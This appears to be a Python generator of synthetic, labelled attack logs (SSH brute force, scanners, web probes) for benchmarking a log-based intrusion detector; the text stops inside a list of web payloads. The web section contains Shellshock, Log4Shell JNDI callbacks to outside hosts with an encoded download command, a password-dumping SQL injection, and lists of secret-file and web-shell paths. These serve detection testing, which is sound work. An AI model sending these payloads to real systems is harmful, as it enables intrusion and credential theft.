#!/usr/bin/env python3
"""Labelled corpus for canhgac's detection benchmark (see README.md in this directory).

Writes into OUT:

  auth.log    sshd / sshd-session, PAM, sudo, CRON, systemd-logind (Debian syslog, host srv01)
  auth-keyonly.log  sshd on a host with PasswordAuthentication no (host bastion): bots leave only
              "Invalid user" and preauth disconnects
  access.log  Apache combined format (a WordPress site with an API)
  ftp.log     vsftpd through syslog (listen_ipv6=YES, so clients are ::ffff:a.b.c.d)
  mail.log    Postfix submission/smtps SASL and Dovecot IMAP/POP3 (host mx1)
  kern.log    UFW on a gateway (fw01): refused and allowed packets, scans, sweeps, backscatter
  asterisk.log  Asterisk's own `messages` file on a PBX: phones, SIP password guessing, extension
              enumeration, manager logins, toll-fraud calls
  labels.json {file: {ip: {"category", "label", "profile", "attempts", ...}}}
  corpus.json what was written: seed, year, time span, per file its kind, type, lines, mtime

Every source address has one role. `label` is one of:
  attacker     a detector should flag it, in `category`
  benign       it should not be flagged (users, mistypes, crawlers, API clients, port scanners)
  below        3 or 4 failed logins in all: under any sane threshold; counted apart, never FP
  distributed  1-2 attempts from each of many addresses in one campaign; not findable per source

A brute-force source is an `attacker` when it made >= 5 failed authentication attempts within
10 minutes (fast), or >= 10 spread over hours at one every 10-30 minutes (profile ".../slow").

Times start at 2025-03-10 00:00:00 UTC and run for --days days. Syslog stamps carry no year:
each file's mtime is set a minute after its last line, so a reader that infers the year from
the mtime (canhgac scan does) gets 2025. Deterministic for a given --seed (and --days).
Python 3 standard library only.
"""

import argparse
import datetime as dt
import ipaddress
import json
import os
import random
import string

VERSION = 1
YEAR = 2025
START = dt.datetime(YEAR, 3, 10, tzinfo=dt.timezone.utc)
MON = ["Jan", "Feb", "Mar", "Apr", "May", "Jun", "Jul", "Aug", "Sep", "Oct", "Nov", "Dec"]
PID = "\x00PID\x00"      # placeholder: the connection's pid, assigned in time order at the end
PID2 = "\x00PID2\x00"    # a second process of the same connection (vsftpd's post-login child)

# First octets that look like the public internet (no private, loopback, CGNAT, multicast,
# documentation or benchmarking ranges).
PUBLIC_A = [1, 2, 5, 14, 23, 27, 31, 36, 37, 39, 42, 45, 46, 49, 58, 59, 60, 61, 62, 64, 66,
            67, 68, 69, 70, 71, 72, 73, 74, 76, 77, 78, 79, 80, 81, 82, 83, 84, 85, 86, 87, 88,
            89, 90, 91, 92, 93, 94, 95, 101, 102, 103, 104, 105, 106, 107, 108, 109, 110, 111,
            112, 113, 114, 115, 116, 117, 118, 119, 120, 121, 122, 123, 124, 125, 128, 129,
            130, 131, 132, 134, 135, 136, 137, 138, 139, 140, 141, 142, 143, 144, 145, 146,
            147, 148, 149, 150, 151, 152, 153, 154, 155, 156, 157, 158, 159, 160, 161, 162,
            163, 164, 165, 166, 167, 168, 170, 171, 173, 174, 175, 176, 177, 178, 179, 180,
            181, 182, 183, 184, 185, 186, 187, 188, 189, 190, 191, 193, 194, 195, 196, 197,
            199, 200, 201, 202, 204, 205, 206, 207, 208, 209, 210, 211, 212, 213, 216, 217,
            218, 219, 220, 221, 222, 223]
V6_PREFIXES = ["2a01:4f8", "2a02:c207", "2a03:b0c0", "2604:a880", "2607:f8b0", "2001:41d0",
               "2a0d:5600", "2400:6180", "2a05:d014", "2406:da18", "240e:3b4", "2409:8a1e"]

INVALID_USERS = ["admin", "test", "user", "ubuntu", "oracle", "postgres1", "git", "ftpuser",
                 "guest", "support", "pi", "deployer", "jenkins", "hadoop", "minecraft", "teamspeak",
                 "nagios", "steam", "webmaster", "debian", "centos", "ansible", "vagrant", "es",
                 "elastic", "mysql1", "zabbix", "tomcat", "odoo", "sftp", "dev", "student",
                 "user1", "test2", "administrator", "ts3", "www", "docker", "kafka", "solana"]
ROOTLIKE = ["root"]  # valid on the server; PermitRootLogin prohibit-password: still "Failed password for root"


class Addr:
    """Unique addresses across the whole corpus."""

    def __init__(self, rng):
        self.rng, self.used = rng, set()

    def v4(self, a=None):
        while True:
            ip = "%d.%d.%d.%d" % (a if a is not None else self.rng.choice(PUBLIC_A),
                                  self.rng.randrange(256), self.rng.randrange(256), self.rng.randrange(1, 255))
            if ip not in self.used:
                self.used.add(ip)
                return ip

    def v6(self):
        while True:
            p = self.rng.choice(V6_PREFIXES)
            groups = [p] + ["%x" % self.rng.randrange(0x10000) for _ in range(8 - p.count(":") - 1)]
            ip = str(ipaddress.ip_address(":".join(groups)))
            if ip not in self.used:
                self.used.add(ip)
                return ip

    def internal(self):
        while True:
            ip = "10.%d.%d.%d" % (self.rng.randrange(256), self.rng.randrange(256), self.rng.randrange(2, 255))
            if ip not in self.used:
                self.used.add(ip)
                return ip

    def pick(self, form):
        """(normalised address, address as the log writes it) for form v4 / v6 / mapped."""
        if form == "v6":
            ip = self.v6()
            return ip, ip
        ip = self.v4()
        return ip, ("::ffff:" + ip if form == "mapped" else ip)


class Log:
    """Events of one file: (seconds after START, insertion order, connection id, text)."""

    def __init__(self):
        self.ev = []
        self.conns = 0

    def conn(self):
        self.conns += 1
        return self.conns

    def add(self, t, text, conn=None):
        self.ev.append((t, len(self.ev), conn, text))


class Labels:
    def __init__(self):
        self.d = {}

    def set(self, ip, category, label, profile, **extra):
        assert ip not in self.d, ip
        self.d[ip] = dict(category=category, label=label, profile=profile, **extra)


def syslog_stamp(t):
    d = START + dt.timedelta(seconds=int(t))
    return "%s %2d %02d:%02d:%02d" % (MON[d.month - 1], d.day, d.hour, d.minute, d.second)


def asterisk_stamp(t):
    d = START + dt.timedelta(seconds=int(t))
    return "%04d-%02d-%02d %02d:%02d:%02d" % (d.year, d.month, d.day, d.hour, d.minute, d.second)


def clf_stamp(t):
    d = START + dt.timedelta(seconds=int(t))
    return "%02d/%s/%04d:%02d:%02d:%02d +0000" % (d.day, MON[d.month - 1], d.year, d.hour, d.minute, d.second)


def fail_windows(times, window=600):
    """Most attempts within any `window` seconds."""
    times = sorted(times)
    best, j = 0, 0
    for i in range(len(times)):
        while times[i] - times[j] > window:
            j += 1
        best = max(best, i - j + 1)
    return best


# ------------------------------------------------------------------------------------------ SSH

class Ssh:
    def __init__(self, rng, log, span, session_from, host="srv01"):
        self.rng, self.log, self.span, self.session_from, self.host = rng, log, span, session_from, host

    def prog(self, t):
        # The host moves from OpenSSH 9.2 (sshd) to 9.8+ (per-connection sshd-session) at
        # session_from: the same server, the same attacks, another program name.
        return "sshd-session" if t >= self.session_from else "sshd"

    def line(self, t, conn, msg, prog=None):
        self.log.add(t, "%s %s %s[%s]: %s" % ("%s", self.host, prog or self.prog(t), PID, msg), conn)

    def port(self):
        return self.rng.randrange(32768, 65536)

    def fail_conn(self, t, ip, kind, user, valid, tries, end, dedupe, legacy):
        """One attacker connection with `tries` failed attempts (kind pw/kbd) or none
        (kind close). Returns (end time, attempt times)."""
        rng, c, port = self.rng, self.log.conn(), self.port()
        prog = self.prog(t)
        L = lambda tt, m: self.line(tt, c, m, prog)  # noqa: E731 - one program per connection
        inv = "" if valid else "invalid user "
        who = "authenticating" if valid else "invalid"
        t += rng.uniform(0.1, 0.6)
        if not valid:
            L(t, "Invalid user %s from %s port %d" % (user, ip, port))
        if kind == "close":
            t += rng.uniform(0.2, 3)
            L(t, "Connection closed by %s user %s %s port %d [preauth]" % (who, user, ip, port))
            return t, [t]
        method = "password" if kind == "pw" else "keyboard-interactive/pam"
        pam_user = "  user=%s" % user if valid else ""
        fail = "Failed %s for %s%s from %s port %d ssh2" % (method, inv, user, ip, port)
        times, repeats = [], 0
        for i in range(tries):
            t += rng.uniform(1.8, 3.5)
            if i == 0:
                if not valid:
                    L(t - 1.5, "pam_unix(sshd:auth): check pass; user unknown")
                L(t - 1.5, "pam_unix(sshd:auth): authentication failure; logname= uid=0 euid=0 tty=ssh ruser= rhost=%s%s" % (ip, pam_user))
            times.append(t)
            if dedupe and i > 0:
                repeats += 1  # rsyslog's RepeatedMsgReduction folds identical consecutive lines
            else:
                L(t, fail)
        if repeats:
            L(t, "message repeated %d times: [ %s]" % (repeats, fail))
        if tries >= 6:  # MaxAuthTries 6
            L(t, "error: maximum authentication attempts exceeded for %s%s from %s port %d ssh2 [preauth]" % (inv, user, ip, port))
            if legacy:
                L(t, "Disconnecting: Too many authentication failures [preauth]")
            else:
                L(t, "Disconnecting %s user %s %s port %d: Too many authentication failures [preauth]" % (who, user, ip, port))
            L(t, "PAM 5 more authentication failures; logname= uid=0 euid=0 tty=ssh ruser= rhost=%s%s" % (ip, pam_user))
            L(t, "PAM service(sshd) ignoring max retries; 6 > 3")
            return t, times
        t += rng.uniform(0.05, 1.0)
        if end == "bye":
            L(t, "Received disconnect from %s port %d:11: Bye Bye [preauth]" % (ip, port))
            L(t, "Disconnected from %s user %s %s port %d [preauth]" % (who, user, ip, port))
        else:
            L(t, "Connection closed by %s user %s %s port %d [preauth]" % (who, user, ip, port))
        if tries >= 2:
            n = tries - 1
            L(t, "PAM %d more authentication failure%s; logname= uid=0 euid=0 tty=ssh ruser= rhost=%s%s" % (n, "s" if n > 1 else "", ip, pam_user))
        return t, times

    def attacker(self, t, ip, attempts, kinds, style, gap, dedupe, legacy):
        """Connections until `attempts` attempts are made. Returns attempt times."""
        rng, times = self.rng, []
        user_pool = rng.sample(INVALID_USERS, k=min(len(INVALID_USERS), 8 + attempts // 10))
        end = rng.choice(["bye", "closed"])
        while len(times) < attempts and t < self.span:
            kind_name = rng.choice(kinds)
            left = attempts - len(times)
            if kind_name == "close":
                kind, tries = "close", 1
            else:
                kind = "kbd" if kind_name == "kbd" else "pw"
                tries = 1 if style == "single" else 6 if style == "max" else rng.randint(2, 4)
                tries = min(tries, left)
            if kind_name == "pw-root" or (kind_name in ("kbd", "close") and rng.random() < 0.5):
                user, valid = "root", True
            else:
                user, valid = rng.choice(user_pool), False
            t, got = self.fail_conn(t, ip, kind, user, valid, tries, end, dedupe, legacy)
            times += got
            t += gap()
        return times

    def login(self, t, ip, user, uid, method, fails=0, typo=None):
        """A legitimate login (after `fails` mistyped passwords, or a mistyped user name
        `typo` in an earlier connection). Returns the end of the session."""
        rng = self.rng
        if typo:
            c, port = self.log.conn(), self.port()
            self.line(t, c, "Invalid user %s from %s port %d" % (typo, ip, port))
            self.line(t + 0.1, c, "pam_unix(sshd:auth): check pass; user unknown")
            self.line(t + 0.1, c, "pam_unix(sshd:auth): authentication failure; logname= uid=0 euid=0 tty=ssh ruser= rhost=%s" % ip)
            self.line(t + 2.5, c, "Failed password for invalid user %s from %s port %d ssh2" % (typo, ip, port))
            self.line(t + 4, c, "Connection closed by invalid user %s %s port %d [preauth]" % (typo, ip, port))
            t += rng.uniform(8, 30)
        c, port = self.log.conn(), self.port()
        t += rng.uniform(0.2, 0.8)
        for i in range(fails):
            if i == 0:
                self.line(t, c, "pam_unix(sshd:auth): authentication failure; logname= uid=0 euid=0 tty=ssh ruser= rhost=%s  user=%s" % (ip, user))
            t += rng.uniform(2.5, 9)
            self.line(t, c, "Failed password for %s from %s port %d ssh2" % (user, ip, port))
        t += rng.uniform(1, 6) if method == "password" else rng.uniform(0.1, 0.5)
        if method == "publickey":
            fp = "".join(rng.choice(string.ascii_letters + string.digits + "+/") for _ in range(43))
            self.line(t, c, "Accepted publickey for %s from %s port %d ssh2: ED25519 SHA256:%s" % (user, ip, port, fp))
        else:
            self.line(t, c, "Accepted password for %s from %s port %d ssh2" % (user, ip, port))
        self.line(t, c, "pam_unix(sshd:session): session opened for user %s(uid=%d) by (uid=0)" % (user, uid))
        sid = self.log.conn()
        self.log.add(t, "%s " + self.host + " systemd-logind[412]: New session " + str(sid) + " of user " + user + ".")
        dur = rng.uniform(20, 4 * 3600) if uid < 1100 else rng.uniform(2, 30)  # people vs automation
        t2 = min(t + dur, self.span - 1)
        self.line(t2, c, "Received disconnect from %s port %d:11: disconnected by user" % (ip, port))
        self.line(t2, c, "Disconnected from user %s %s port %d" % (user, ip, port))
        self.line(t2, c, "pam_unix(sshd:session): session closed for user %s" % user)
        self.log.add(t2, "%s " + self.host + " systemd-logind[412]: Session " + str(sid) + " logged out. Waiting for processes to exit.")
        self.log.add(t2 + 0.01, "%s " + self.host + " systemd-logind[412]: Removed session " + str(sid) + ".")
        return t, t2

    def keyonly_conn(self, t, ip, kind, user, end):
        """A bot against a server with PasswordAuthentication no: it names a user (invalid or
        root), may offer keys (none accepted; not logged at LogLevel INFO) and leaves, or runs
        into MaxAuthTries with many keys. One attempt per connection. Returns its time."""
        rng, c, port = self.rng, self.log.conn(), self.port()
        prog = self.prog(t)
        L = lambda tt, m: self.line(tt, c, m, prog)  # noqa: E731
        valid = kind != "probe-invalid"
        who = "authenticating" if valid else "invalid"
        t += rng.uniform(0.1, 0.6)
        if not valid:
            L(t, "Invalid user %s from %s port %d" % (user, ip, port))
        t += rng.uniform(0.2, 2)
        if kind == "keys-max":
            L(t, "error: maximum authentication attempts exceeded for %s from %s port %d ssh2 [preauth]" % (user, ip, port))
            L(t, "Disconnecting authenticating user %s %s port %d: Too many authentication failures [preauth]" % (user, ip, port))
        elif end == "bye":
            L(t, "Received disconnect from %s port %d:11: Bye Bye [preauth]" % (ip, port))
            L(t, "Disconnected from %s user %s %s port %d [preauth]" % (who, user, ip, port))
        else:
            L(t, "Connection closed by %s user %s %s port %d [preauth]" % (who, user, ip, port))
        return t

    def scanner(self, t, ip):
        """A connect-and-leave probe (banner grabbers, port scanners, key-exchange probers)."""
        rng, c, port = self.rng, self.log.conn(), self.port()
        k = rng.randrange(6)
        if k == 0:
            self.line(t, c, "Connection closed by %s port %d [preauth]" % (ip, port))
        elif k == 1:
            self.line(t, c, "Did not receive identification string from %s port %d" % (ip, port))
        elif k == 2:
            self.line(t, c, "error: kex_exchange_identification: Connection closed by remote host")
            self.line(t, c, "Connection closed by %s port %d" % (ip, port))
        elif k == 3:
            self.line(t, c, "Connection reset by %s port %d [preauth]" % (ip, port))
        elif k == 4:
            self.line(t, c, "Unable to negotiate with %s port %d: no matching host key type found. Their offer: ssh-rsa,ssh-dss [preauth]" % (ip, port))
        else:
            self.line(t, c, "Received disconnect from %s port %d:11: Bye Bye [preauth]" % (ip, port))
            self.line(t, c, "Disconnected from %s port %d [preauth]" % (ip, port))


def gen_auth(rng, addr, span, session_from):
    log, lab = Log(), Labels()
    ssh = Ssh(rng, log, span, session_from)

    def form():
        r = rng.random()
        return "v6" if r < 0.15 else "mapped" if r < 0.25 else "v4"

    kinds_all = ["pw-root", "pw-dict", "kbd", "close"]

    def kindset():
        r = rng.random()
        if r < 0.15:
            return ["pw-root"]
        if r < 0.3:
            return ["pw-dict"]
        if r < 0.35:
            return ["kbd"]
        return rng.sample(kinds_all, k=rng.randint(2, 4))  # mixed kinds from one source

    def add_attacker(profile, attempts, style, gap, start=None, label="attacker", slow=False):
        f = form()
        ip, logged = addr.pick(f)
        ks = kindset()
        if slow:
            ks = rng.choice([["pw-dict"], ["pw-root"], ["pw-root", "pw-dict", "close"]])
        t0 = start if start is not None else rng.uniform(600, span - 6 * 3600)
        times = ssh.attacker(t0, logged, attempts, ks, style, gap,
                             dedupe=rng.random() < 0.2, legacy=rng.random() < 0.15)
        progs = sorted({ssh.prog(x) for x in times})
        lab.set(ip, "bruteforce", label, profile, attempts=len(times), max_10min=fail_windows(times),
                kinds=ks, style=style, form=f, prog="+".join(progs), first=round(times[0]))
        if label == "attacker" and not slow:
            assert fail_windows(times) >= 5, (profile, times)
        if label == "below":
            assert len(times) in (3, 4)

    fast = lambda: rng.uniform(1, 25)  # noqa: E731 - gap between connections
    for _ in range(30):
        add_attacker("ssh/5-10", rng.randint(5, 10), rng.choice(["single", "few", "max"]), fast)
    for _ in range(30):
        add_attacker("ssh/tens", rng.randint(11, 90), rng.choice(["single", "few", "max", "max"]), fast)
    for _ in range(10):
        add_attacker("ssh/hundreds", rng.randint(100, 600), rng.choice(["single", "few", "max"]),
                     lambda: rng.uniform(0.5, 6))
    for _ in range(10):
        add_attacker("ssh/slow", rng.randint(12, 40), "single", lambda: rng.uniform(600, 1800),
                     start=rng.uniform(600, span / 2), slow=True)
    for _ in range(25):
        add_attacker("ssh/below", rng.choice([3, 4]), rng.choice(["single", "few"]), fast, label="below")
    # Distributed campaigns: many addresses, 1-2 attempts each, root and a shared user list.
    for camp in range(2):
        t0 = rng.uniform(3600, span - 3 * 3600)
        for _ in range(40):
            f = form()
            ip, logged = addr.pick(f)
            times = ssh.attacker(t0 + rng.uniform(0, 5400), logged, rng.randint(1, 2),
                                 ["pw-root", "pw-dict"], "single", lambda: rng.uniform(20, 300), False, False)
            lab.set(ip, "bruteforce", "distributed", "ssh/distributed-%d" % camp, attempts=len(times),
                    form=f, prog="+".join(sorted({ssh.prog(x) for x in times})))

    # Legitimate users.
    users = [("alice", 1000), ("bob", 1001), ("carol", 1002), ("dave", 1003), ("erin", 1004),
             ("frank", 1005), ("grace", 1006), ("heidi", 1007), ("ivan", 1008), ("judy", 1009),
             ("mallory", 1010), ("oscar", 1011)]
    for name, uid in users:
        f = rng.choice(["v4", "v4", "v4", "v6", "internal"])
        if f == "internal":
            ip = addr.internal()
        else:
            ip, _ = addr.pick(f)
        method = rng.choice(["publickey", "password", "password"])
        mistyper = method == "password" and rng.random() < 0.75
        lab.set(ip, "bruteforce", "benign", "ssh/user-mistypes" if mistyper else "ssh/user",
                method=method, form=f)
        day, fails_at = 0, []
        while day * 86400 < span:
            starts = sorted(day * 86400 + rng.uniform(7 * 3600, 20 * 3600) for _ in range(rng.randint(1, 4)))
            for i, t in enumerate(starts):
                if t >= span - 600 or (i and t - starts[i - 1] < 900):
                    continue  # at most one login (and its mistypes) per 15 minutes
                fails = rng.choice([0, 0, 1, 1, 2, 3]) if mistyper else 0
                typo = name[:2] + name[3:] + name[2] if (mistyper and rng.random() < 0.1) else None
                _, t2 = ssh.login(t, ip, name, uid, method, fails=fails, typo=typo)
                fails_at += [t] * (fails + (1 if typo else 0))
                if name in ("alice", "bob") and rng.random() < 0.7:
                    ts = t + rng.uniform(30, 600)
                    if ts < t2:
                        if rng.random() < 0.25:  # one mistyped sudo password (threshold is 3)
                            log.add(ts - 5, "%s srv01 sudo: pam_unix(sudo:auth): authentication failure; logname=" + name
                                    + " uid=%d euid=0 tty=/dev/pts/0 ruser=%s rhost=  user=%s" % (uid, name, name))
                        cmd = rng.choice(["/usr/bin/apt update", "/usr/bin/systemctl restart nginx",
                                          "/usr/bin/journalctl -u nginx", "/usr/bin/tail -f /var/log/syslog"])
                        log.add(ts, "%s srv01 sudo:    " + name + " : TTY=pts/0 ; PWD=/home/" + name
                                + " ; USER=root ; COMMAND=" + cmd)
                        log.add(ts, "%s srv01 sudo: pam_unix(sudo:session): session opened for user root(uid=0) by "
                                + name + "(uid=%d)" % uid)
                        log.add(ts + 2, "%s srv01 sudo: pam_unix(sudo:session): session closed for user root")
            day += 1
        lab.d[ip]["max_10min"] = fail_windows(fails_at)
    # A CI deployer and a monitoring check: publickey logins all day long from fixed addresses.
    for name, uid, every in (("deploy", 1100, 1800), ("nagios", 1101, 900)):
        ip = addr.v4()
        lab.set(ip, "bruteforce", "benign", "ssh/automation", method="publickey", form="v4")
        t = rng.uniform(0, every)
        while t < span - 60:
            ssh.login(t, ip, name, uid, "publickey")
            t += every + rng.uniform(-30, 30)
    # Port scanners and banner grabbers: connect and leave, never try a password.
    for i in range(30):
        f = form()
        ip, logged = addr.pick(f)
        n = rng.choice([1, 1, 2, 3, 5, 8]) if i < 24 else rng.randint(12, 30)  # a few bursty ones
        lab.set(ip, "bruteforce", "benign", "ssh/scanner" if i < 24 else "ssh/scanner-burst",
                connections=n, form=f)
        t = rng.uniform(600, span - 3600)
        for _ in range(n):
            ssh.scanner(t, logged)
            t += rng.uniform(2, 40) if i >= 24 else rng.uniform(60, 7200)
    # cron
    t = 0.0
    while t < span:
        for cmd, every in (("command -v debian-sa1 > /dev/null && debian-sa1 1 1", 600),
                           ("   cd / && run-parts --report /etc/cron.hourly", 3600)):
            if int(t) % every == (0 if every == 600 else 1020):
                c = log.conn()
                tt = t + 1
                log.add(tt, "%s srv01 CRON[" + PID + "]: pam_unix(cron:session): session opened for user root(uid=0) by (uid=0)", c)
                log.add(tt, "%s srv01 CRON[" + PID + "]: (root) CMD (" + cmd + ")", c)
                log.add(tt + rng.uniform(0.1, 2), "%s srv01 CRON[" + PID + "]: pam_unix(cron:session): session closed for user root", c)
        t += 60
    return log, lab


def gen_auth_keyonly(rng, addr, span, session_from):
    """A bastion with PasswordAuthentication no (cloud images' default): bots leave only
    "Invalid user" and preauth disconnects, no "Failed password"."""
    log, lab = Log(), Labels()
    ssh = Ssh(rng, log, span, session_from, host="bastion")

    def form():
        r = rng.random()
        return "v6" if r < 0.15 else "mapped" if r < 0.25 else "v4"

    def add(profile, attempts, gap, label="attacker", slow=False):
        f = form()
        ip, logged = addr.pick(f)
        r = rng.random()
        kinds = (["probe-invalid"] if r < 0.3 else ["probe-root"] if r < 0.45 else
                 rng.sample(["probe-invalid", "probe-root", "keys-max"], k=rng.randint(2, 3)))
        users = rng.sample(INVALID_USERS, k=rng.randint(1, 8))  # some bots retry one name
        end = rng.choice(["bye", "closed"])
        t = rng.uniform(600, span / 2) if slow else rng.uniform(600, span - 6 * 3600)
        times = []
        while len(times) < attempts and t < span:
            kind = rng.choice(kinds)
            t = ssh.keyonly_conn(t, logged, kind, rng.choice(users) if kind == "probe-invalid" else "root", end)
            times.append(t)
            t += gap()
        lab.set(ip, "bruteforce", label, profile, attempts=len(times), max_10min=fail_windows(times), kinds=kinds,
                users=len(users), form=f, prog="+".join(sorted({ssh.prog(x) for x in times})), first=round(times[0]))
        if label == "attacker" and not slow:
            assert fail_windows(times) >= 5

    fast = lambda: rng.uniform(1, 25)  # noqa: E731
    for _ in range(30):
        add("ssh-keyonly/5-10", rng.randint(5, 10), fast)
    for _ in range(20):
        add("ssh-keyonly/tens", rng.randint(11, 90), fast)
    for _ in range(5):
        add("ssh-keyonly/hundreds", rng.randint(100, 500), lambda: rng.uniform(0.5, 6))
    for _ in range(5):
        add("ssh-keyonly/slow", rng.randint(12, 40), lambda: rng.uniform(600, 1800), slow=True)
    for _ in range(15):
        add("ssh-keyonly/below", rng.choice([3, 4]), fast, label="below")
    t0 = rng.uniform(3600, span - 3 * 3600)
    for _ in range(40):
        f = form()
        ip, logged = addr.pick(f)
        n, t = rng.randint(1, 2), t0 + rng.uniform(0, 5400)
        for _ in range(n):
            t = ssh.keyonly_conn(t, logged, rng.choice(["probe-invalid", "probe-root"]), rng.choice(INVALID_USERS[:10]), "bye")
            t += rng.uniform(20, 300)
        lab.set(ip, "bruteforce", "distributed", "ssh-keyonly/distributed", attempts=n, form=f)
    # Admins with keys (one types a wrong user name now and then), automation, scanners.
    for name, uid in (("alice", 1000), ("bob", 1001), ("carol", 1002), ("dave", 1003), ("erin", 1004)):
        f = rng.choice(["v4", "v4", "v6"])
        ip, _ = addr.pick(f)
        lab.set(ip, "bruteforce", "benign", "ssh-keyonly/user", method="publickey", form=f)
        for day in range(int(span // 86400) + 1):
            for t in sorted(day * 86400 + rng.uniform(7 * 3600, 20 * 3600) for _ in range(rng.randint(1, 3))):
                if t < span - 600:
                    if rng.random() < 0.1:
                        ssh.keyonly_conn(t - 30, ip, "probe-invalid", name[::-1], "closed")
                    ssh.login(t, ip, name, uid, "publickey")
    ip = addr.v4()
    lab.set(ip, "bruteforce", "benign", "ssh-keyonly/automation", method="publickey", form="v4")
    t = rng.uniform(0, 600)
    while t < span - 60:
        ssh.login(t, ip, "ansible", 1100, "publickey")
        t += 600 + rng.uniform(-20, 20)
    for i in range(15):
        f = form()
        ip, logged = addr.pick(f)
        n = rng.choice([1, 2, 3, 6]) if i < 12 else rng.randint(12, 30)
        lab.set(ip, "bruteforce", "benign", "ssh-keyonly/scanner" if i < 12 else "ssh-keyonly/scanner-burst", connections=n, form=f)
        t = rng.uniform(600, span - 3600)
        for _ in range(n):
            ssh.scanner(t, logged)
            t += rng.uniform(2, 40) if i >= 12 else rng.uniform(60, 7200)
    return log, lab


# ------------------------------------------------------------------------------------------ web

BROWSERS = [
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/122.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.3 Safari/605.1.15",
    "Mozilla/5.0 (X11; Linux x86_64; rv:123.0) Gecko/20100101 Firefox/123.0",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_3 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.3 Mobile/15E148 Safari/604.1",
    "Mozilla/5.0 (Linux; Android 14; Pixel 7) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/122.0.0.0 Mobile Safari/537.36",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:123.0) Gecko/20100101 Firefox/123.0",
]
CRAWLERS = [
    ("66", "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)"),
    ("40", "Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)"),
    ("5", "Mozilla/5.0 (compatible; YandexBot/3.0; +http://yandex.com/bots)"),
    ("54", "Mozilla/5.0 (compatible; AhrefsBot/7.0; +http://ahrefs.com/robot/)"),
    ("85", "Mozilla/5.0 (compatible; SemrushBot/7~bl; +http://www.semrush.com/bot.html)"),
    ("144", "Mozilla/5.0 (compatible; MJ12bot/v1.4.8; http://mj12bot.com/)"),
]
POSTS = ["/2024/01/15/hello-world/", "/2024/02/03/backup-strategies-for-small-offices/",
         "/2024/03/21/union-station-renovation-photos/", "/2024/05/09/select-the-right-ups/",
         "/2024/06/30/etc-files-explained/", "/2024/08/12/drop-shipping-guide/",
         "/2024/10/02/admin-tips-for-wordpress/", "/2024/11/27/shell-scripting-basics/",
         "/about/", "/contact/", "/category/news/", "/category/howto/", "/tag/linux/", "/feed/"]
ASSETS = ["/wp-content/themes/astra/style.css?ver=4.6.4", "/wp-includes/js/jquery/jquery.min.js?ver=3.7.1",
          "/wp-content/themes/astra/assets/js/minified/frontend.min.js?ver=4.6.4",
          "/wp-content/uploads/2024/05/header.jpg", "/wp-content/uploads/2024/08/diagram.png",
          "/wp-includes/css/dist/block-library/style.min.css?ver=6.4.3", "/favicon.ico"]
SEARCHES = ["backup", "o%27reilly+books", "select+ups", "union+station", "etc%2Fhosts+file",
            "drop+table+plans", "script+tutorial", "admin", "linux+shell", "1%3D1+meaning"]


class Web:
    def __init__(self, rng, log):
        self.rng, self.log = rng, log

    def req(self, t, ip, method, url, status, ua, ref="-", size=None, proto="HTTP/1.1"):
        if size is None:
            size = self.rng.randint(200, 60000) if status == 200 else self.rng.randint(150, 600)
        self.log.add(t, '%s - - [%s] "%s %s %s" %d %d "%s" "%s"' % (ip, "%s", method, url, proto, status, size, ref, ua))


SENSITIVE = ["/.env", "/.git/config", "/.git/HEAD", "/wp-config.php.bak", "/wp-config.php~", "/config.php.bak",
             "/.aws/credentials", "/backup.zip", "/backup.sql", "/db.sql", "/site.tar.gz", "/phpinfo.php",
             "/info.php", "/server-status", "/.env.production", "/laravel/.env", "/api/.env", "/.DS_Store",
             "/.svn/entries", "/.htpasswd", "/database.sql.gz", "/actuator/env", "/WEB-INF/web.xml", "/.vscode/sftp.json"]
ADMIN = ["/phpmyadmin/", "/phpMyAdmin/index.php", "/pma/", "/myadmin/", "/mysql/", "/admin.php", "/administrator/",
         "/manager/html", "/webmail/", "/roundcube/", "/cgi-bin/luci", "/adminer.php", "/dbadmin/", "/sqladmin/",
         "/typo3/", "/xampp/phpmyadmin/", "/admin/login.php", "/console/", "/jenkins/login", "/solr/admin/"]
SHELLS = ["/shell.php", "/wso.php", "/c99.php", "/r57.php", "/up.php", "/alfa.php", "/wp-content/plugins/x/wso.php",
          "/wp-content/uploads/shell.php", "/cmd.php", "/b374k.php", "/indoxploit.php", "/mini.php", "/0x.php",
          "/uploader.php", "/sym.php", "/marijuana.php", "/xleet.php", "/priv8.php", "/leafmailer.php", "/fox.php"]
WORDLIST = ["admin", "backup", "old", "new", "test", "tmp", "dev", "api", "v1", "v2", "private", "secret", "uploads",
            "files", "images", "img", "css", "js", "static", "assets", "download", "downloads", "logs", "log", "db",
            "database", "sql", "data", "config", "conf", "include", "includes", "lib", "src", "bin", "cgi", "scripts",
            "portal", "user", "users", "account", "login", "logout", "register", "dashboard", "panel", "cp", "control",
            "manage", "management", "staff", "internal", "intranet", "webadmin", "sysadmin", "support", "help", "docs",
            "doc", "documentation", "archive", "archives", "bak", "beta", "demo", "stage", "staging", "prod", "web",
            "www", "site", "home", "main", "index", "default", "temp", "cache", "vendor", "node_modules", "server"]


def web_attack_requests(rng, kind):
    """(method, url, status, ua) of a single-shot attack of `kind`."""
    b = rng.choice(BROWSERS)
    if kind == "shellshock":
        return ("GET", "/cgi-bin/status", 404, "() { :; }; echo; echo; /bin/bash -c 'cat /etc/passwd'")
    if kind == "log4shell":
        cb = "%d.%d.%d.%d:1389" % (rng.choice(PUBLIC_A), rng.randrange(256), rng.randrange(256), rng.randrange(1, 255))
        return rng.choice([
            ("GET", "/", 200, "${jndi:ldap://%s/Basic/Command/Base64/d2dldCBodHRwOi8v}" % cb),
            ("GET", "/?x=${jndi:ldap://%s/a}" % cb, 200, b),
            ("GET", "/api/v1/login?user=%24%7Bjndi%3Aldap%3A%2F%2F" + cb.replace(":", "%3A") + "%2Fexp%7D", 404, b),
            ("GET", "/", 200, "${${lower:j}ndi:${lower:l}dap://%s/o}" % cb),
        ])
    choices = {
        "sqli": [
            ("GET", "/?p=1%27%20UNION%20SELECT%201,2,concat(user_login,0x3a,user_pass),4%20FROM%20wp_users--%20-", 404, b),
